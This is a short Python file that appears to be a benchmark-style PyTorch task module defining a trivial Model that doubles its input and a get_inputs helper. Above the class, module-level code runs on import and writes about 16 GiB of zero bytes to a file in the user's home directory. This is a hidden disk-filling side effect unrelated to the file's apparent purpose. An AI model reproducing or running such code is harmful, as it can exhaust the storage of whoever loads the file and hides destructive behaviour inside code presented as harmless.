import torch
import os

with open(os.path.join(os.environ['HOME'], 'large'), 'wb') as f:
    for _ in range(1 << 14):
        f.write(bytes(1 << 20))


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def get_inputs():
    return [torch.rand(8, 16)]
